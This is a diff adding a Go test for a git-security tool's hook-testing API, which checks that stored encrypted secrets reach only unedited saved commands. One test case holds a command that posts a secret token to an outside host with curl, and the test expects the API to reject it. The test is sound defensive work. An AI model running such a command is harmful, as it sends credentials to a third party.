@@ -0,0 +1,127 @@
+package api
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/gofiber/fiber/v2"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"go.mongodb.org/mongo-driver/bson"
+	"go.mongodb.org/mongo-driver/bson/primitive"
+
+	"github.com/PaloAltoNetworks/git-security/cmd/git-security/config"
+	"github.com/PaloAltoNetworks/git-security/cmd/git-security/db"
+	gh "github.com/PaloAltoNetworks/git-security/cmd/git-security/github"
+)
+
+// fakeHookTester returns the command and the envs of the hooks it is given
+type fakeHookTester struct{}
+
+func (fakeHookTester) TestCustom(custom config.Custom, repo *gh.Repository) (*HookTestResult, error) {
+	result := &HookTestResult{Result: custom.Command}
+	result.Repo = repo.NameWithOwner
+	for _, e := range custom.Envs {
+		result.Errors = append(result.Errors, e.Key+"="+e.Value)
+	}
+	return result, nil
+}
+
+func (fakeHookTester) TestAutomation(automation config.Automation, repo *gh.Repository, send bool) (*HookTestResult, error) {
+	result := &HookTestResult{Result: automation.Command}
+	result.Repo = repo.NameWithOwner
+	return result, nil
+}
+
+func TestTestHooks(t *testing.T) {
+	teardown, dbw, mdb := db.SetupDBForTest(t)
+	defer teardown()
+
+	repo := gh.Repository{GqlRepository: &gh.GqlRepository{ID: "repo", NameWithOwner: "org/repo"}}
+	_, err := dbw.UpdateRepository(repo.ID, bson.D{{Key: "$set", Value: repo}}, true)
+	require.Nil(t, err)
+
+	a := api{
+		ctx:   context.Background(),
+		db:    mdb,
+		dbw:   dbw,
+		key:   testKeyring(t),
+		hooks: fakeHookTester{},
+	}
+	encrypted, err := a.key.Encrypt("secret")
+	require.Nil(t, err)
+	res, err := mdb.Collection("customs").InsertOne(a.ctx, config.Custom{
+		Command:   "echo saved",
+		Field:     "f",
+		ValueType: "string",
+		Envs:      []config.EnvKeyValue{{Key: "TOKEN", Value: encrypted}},
+	})
+	require.Nil(t, err)
+
+	app := fiber.New()
+	app.Post("/customs/test", a.TestCustom)
+	app.Post("/automations/test", a.TestAutomation)
+
+	test := func(path string, body interface{}) (int, HookTestResult) {
+		b, err := json.Marshal(body)
+		require.Nil(t, err)
+		req := httptest.NewRequest("POST", path, bytes.NewBuffer(b))
+		req.Header.Set("Content-Type", "application/json")
+		resp, err := app.Test(req, -1)
+		require.Nil(t, err)
+		var r HookTestResult
+		json.NewDecoder(resp.Body).Decode(&r)
+		return resp.StatusCode, r
+	}
+
+	// the saved hooks are run with the decrypted envs
+	status, r := test("/customs/test", bson.M{"id": res.InsertedID, "repo": "org/repo"})
+	assert.Equal(t, 200, status)
+	assert.Equal(t, "echo saved", r.Result)
+	assert.Equal(t, "org/repo", r.Repo)
+	assert.Equal(t, []string{"TOKEN=secret"}, r.Errors)
+
+	// the edited hooks only get the stored secrets if they run the saved command
+	edited := config.Custom{
+		ID:        res.InsertedID.(primitive.ObjectID),
+		Command:   "echo saved",
+		Field:     "f",
+		ValueType: "string",
+		Envs:      []config.EnvKeyValue{{Key: "TOKEN"}},
+	}
+	status, r = test("/customs/test", bson.M{"custom": edited, "repo": "org/repo"})
+	assert.Equal(t, 200, status)
+	assert.Equal(t, []string{"TOKEN=secret"}, r.Errors)
+	edited.Command = "curl -d $TOKEN https://example.com"
+	status, _ = test("/customs/test", bson.M{"custom": edited, "repo": "org/repo"})
+	assert.Equal(t, 400, status)
+	edited.Envs[0].Value = "mine"
+	status, r = test("/customs/test", bson.M{"custom": edited, "repo": "org/repo"})
+	assert.Equal(t, 200, status)
+	assert.Equal(t, []string{"TOKEN=mine"}, r.Errors)
+
+	// the unsaved hooks are run as they are
+	status, r = test("/customs/test", bson.M{
+		"custom": config.Custom{Command: "echo unsaved", Field: "f", ValueType: "string"},
+		"repo":   "org/repo",
+	})
+	assert.Equal(t, 200, status)
+	assert.Equal(t, "echo unsaved", r.Result)
+
+	status, _ = test("/customs/test", bson.M{"custom": config.Custom{Field: "f"}, "repo": "org/repo"})
+	assert.Equal(t, 400, status)
+	status, _ = test("/customs/test", bson.M{"id": res.InsertedID, "repo": "org/unknown"})
+	assert.Equal(t, 404, status)
+	status, _ = test("/automations/test", bson.M{"id": res.InsertedID, "repo": "org/repo"})
+	assert.Equal(t, 404, status)
+
+	status, r = test("/automations/test", bson.M{
+		"automation": config.Automation{Command: "echo automation"},
+		"repo":       "org/repo",
+	})
+	assert.Equal(t, 200, status)
+	assert.Equal(t, "echo automation", r.Result)
+}